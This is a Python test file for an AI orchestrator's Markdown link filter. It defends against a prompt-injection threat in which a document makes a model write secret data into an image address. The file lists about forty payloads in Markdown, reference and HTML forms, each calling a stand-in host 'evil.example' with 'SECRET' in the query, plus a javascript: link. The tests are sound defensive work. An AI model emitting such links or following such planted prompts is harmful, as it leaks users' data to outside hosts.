"""Threat 30: a prompt in a document makes the model write data into the address of an image.

A Markdown parser is the judge: what it renders of the filtered text loads and links nothing from a
foreign host, however the address is written, and the pieces of a stream make no difference.
"""

import re
import time
from html import unescape
from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import urljoin, urlsplit

import pytest
from heddle_orchestrator.output.hosts import OutputPolicy, joined
from heddle_orchestrator.output.link_filter import LinkFilter, filtered
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from runtime.examples import examples

EVIL = "https://evil.example/?q=SECRET"
GOOD = "https://good.example/a.png"
POLICY = OutputPolicy((frozenset({"good.example", "*.cdn.example"}),))
PARSERS = (
    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
    MarkdownIt("commonmark", {"html": True}),
)
ATTACKS = {
    "image": f"![a]({EVIL})",
    "link": f"[a]({EVIL})",
    "image with a title": f'![a]({EVIL} "t")',
    "image in angle brackets": f"![a](<{EVIL}>)",
    "image with a space before": f"![a](  {EVIL})",
    "image after a line end": f"![a](\n{EVIL})",
    "image without a scheme": "![a](//evil.example/x)",
    "image with backslashes": "![a](\\\\evil.example/x)",
    "image with an entity": "![a](https&#58;//evil.example/x)",
    "image with an escape": "![a](https\\://evil.example/x)",
    "image with userinfo": "![a](https://good.example@evil.example/x)",
    "image with a long userinfo": "![a](https://good.example:80@evil.example/x)",
    "image with a similar host": "![a](https://good.example.evil.example/x)",
    "image in capitals": "![a](HTTPS://EVIL.example/x)",
    "image with a tab in the host": "![a](<https://good.example\t.evil.example/x>)",
    "reference": f"![a][b]\n\n[b]: {EVIL}",
    "reference in angle brackets": f"![a]\n\n[a]: <{EVIL}>",
    "reference after a line end": f"![a][]\n\n[a]:\n   {EVIL}",
    "image in a link": f"[![a]({EVIL})]({GOOD})",
    "link around an image": f"[![a]({GOOD})]({EVIL})",
    "autolink": f"<{EVIL}>",
    "HTML image": f'<img src="{EVIL}">',
    "HTML image without quotes": "<IMG SRC=//evil.example/x>",
    "HTML image over lines": f'<img\nsrc="{EVIL}"\n>',
    "HTML anchor": f'<a href="{EVIL}">a</a>',
    "HTML block with a fence": f"<div>\n```\n<img src='{EVIL}'>\n```\n</div>",
    "comment": f"<!-- --><img src='{EVIL}'>",
    "video": f"<video poster='{EVIL}'></video>",
    "unclosed code": f"` ![a]({EVIL})",
    "code over lines": f"a ` b\n\n![a]({EVIL}) `",
    "cells of a table": f"|a|b|\n|-|-|\n|`|![a]({EVIL})|`|",
    "list with a fence that ends with it": f"- a\n  ```\n![a]({EVIL})\n",
    "indented fence": f"  ```\ncode\n```\n![a]({EVIL})\n",
    "quotation with a fence": f"> ```\n![a]({EVIL})\n",
    "fence after a quotation": f"> ```\n> a\n```\n```\n![a]({EVIL})\n",
    "fence with a mark in its info": f"``` a`b\n![a]({EVIL})\n",
    "fence that ends with other marks": f"```\n~~~\n```\n![a]({EVIL})\n",
    "fence with carriage returns": f"```\rcode\r```\r![a]({EVIL})",
    "many spaces": f"![a]({' ' * 200}{EVIL})",
    "long address": f"![a](https://{'x' * 2_000}.evil.example/)",
    "script": "[a](javascript:alert(1))",
}
HARMLESS = [
    "plain text, 1 < 2, a[0] and f(x)",
    f"![a]({GOOD}) [b](https://x.cdn.example/y?z=1#w) <{GOOD}> {GOOD}",
    f"![a][b]\n\n[b]: {GOOD}\n",
    "[section](#part) ![x](images/x.png) [1]: note",
    f"```html\n<img src='{EVIL}'>\n![a]({EVIL})\n```\n",
    "~~~~\n~~~\n<b>\n~~~~\nafter",
    "use `<div>` and `a[b](c)`",
]


_ATTRIBUTES = {"src", "href", "poster", "srcset", "data", "background", "action", "style"}


class _Addresses(HTMLParser):
    """Collects the addresses that a browser loads or links."""

    def __init__(self) -> None:
        super().__init__()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Collect the attributes that hold an address."""
        self.addresses += (value or "" for name, value in attrs if name in _ATTRIBUTES)


def foreign(markdown: str) -> list[str]:
    """Return the addresses of foreign hosts in what parsers render."""
    addresses: list[str] = []
    for parser in PARSERS:
        page = _Addresses()
        page.feed(parser.render(markdown))
        page.close()
        addresses += filter(is_foreign, page.addresses)
    return addresses


def is_foreign(address: str) -> bool:
    """Return whether a browser on front.example would reach another host, or run a script."""
    cleaned = re.sub(r"[\t\r\n]", "", unescape(address).strip()).replace("\\", "/")
    parts = urlsplit(urljoin("https://front.example/", cleaned))
    if parts.scheme not in ("http", "https", "ftp"):
        return True
    host = parts.netloc.rpartition("@")[2].lower()
    return not (host in ("front.example", "good.example") or host.endswith(".cdn.example"))


def streamed(pieces: list[str]) -> str:
    """Return the filtered text of a stream."""
    link_filter = LinkFilter(POLICY)
    return "".join(map(link_filter.feed, pieces)) + link_filter.finish()


@pytest.mark.parametrize("name", ATTACKS)
def test_no_parser_renders_an_address_of_a_foreign_host(name: str) -> None:
    text = ATTACKS[name]
    assert foreign(filtered(text, POLICY)) == []
    assert foreign(filtered(f"Before.\n\n{text}\n\nAfter.", POLICY)) == []


@pytest.mark.parametrize("text", HARMLESS)
def test_permitted_addresses_and_code_stay_as_they_are(text: str) -> None:
    assert filtered(text, POLICY) == text


@pytest.mark.parametrize("text", [*ATTACKS.values(), *HARMLESS])
def test_a_cut_at_any_position_makes_no_difference(text: str) -> None:
    whole = filtered(text, POLICY)
    for position in range(len(text) + 1):
        assert streamed([text[:position], text[position:]]) == whole
    assert streamed(list(text)) == whole


PARTS = st.sampled_from(
    [
        *("](", "]:", "![", "[a", ")", "<", ">", "`", "```", "~~~", "\n", "\r", " ", "\\", "&#58;"),
        *(
            EVIL,
            GOOD,
            "//evil.example",
            "www.evil.example",
            "http",
            "a",
            "- ",
            "> ",
            "|",
            "<img src=",
        ),
    ]
)


@examples(2_000)
@given(st.lists(PARTS, max_size=14), st.lists(st.integers(0, 300), max_size=6))
@example(["```", "\n", "\r", "```"], [3, 4, 5])
def test_any_text_is_safe_and_any_stream_like_the_whole(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    whole = filtered(text, POLICY)
    assert foreign(whole) == [], whole
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    pieces = [text[start:end] for start, end in pairwise(places)]
    assert streamed(pieces) == whole


def test_only_a_host_is_held_back() -> None:
    link_filter = LinkFilter(POLICY)
    assert link_filter.feed("See [the page](https://good.example/") == ("See [the page")
    assert link_filter.feed("x) and more. ") == "](https://good.example/x) and more. "
    assert (
        link_filter.feed("Ordinary text is not held back. ") == "Ordinary text is not held back. "
    )


def test_a_foreign_host_is_named_and_is_no_link() -> None:
    assert filtered(f"![a chart]({EVIL}) ok", POLICY) == "![a chart] (evil[.]example) ok"
    assert filtered(f"see {EVIL}, ok", POLICY) == "see evil[.]example ok"


def test_lists_of_the_organisation_and_the_assistant_must_both_permit_a_host() -> None:
    assert OutputPolicy.of(joined("", " ")) is None
    both = OutputPolicy.of(joined("a.example b.example", "b.example"))
    nothing = OutputPolicy.of("none")
    assert both is not None
    assert nothing is not None
    assert [both.permits(f"{name}.example") for name in "ab"] == [False, True]
    assert not nothing.permits("a.example")


@pytest.mark.parametrize("unit", ["`", "~", "` ", "\n", "<", "h", f"[a]({EVIL}) "])
def test_a_text_that_is_long_takes_no_long_time(unit: str) -> None:
    """Backquotes took time that grows with the square of their number: 34 s for 50,000."""
    begun = time.thread_time()
    filtered(unit * (50_000 // len(unit)), POLICY)
    assert time.thread_time() - begun < 5
